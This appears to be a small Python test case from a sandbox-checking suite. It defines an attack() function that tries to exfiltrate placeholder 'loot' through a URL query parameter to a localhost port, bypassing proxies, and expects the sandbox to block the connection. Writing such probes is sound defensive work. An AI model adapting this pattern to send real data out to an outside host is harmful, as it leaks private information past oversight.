"""Send loot away in the address of a web page.

Evidence: connection
Sandbox: error
"""

import urllib.error
import urllib.request


def attack(target):
    address = f"http://127.0.0.1:{target['tcp_port']}/?loot=1"
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        opener.open(address, timeout=0.2)
    except TimeoutError:
        return "sent"
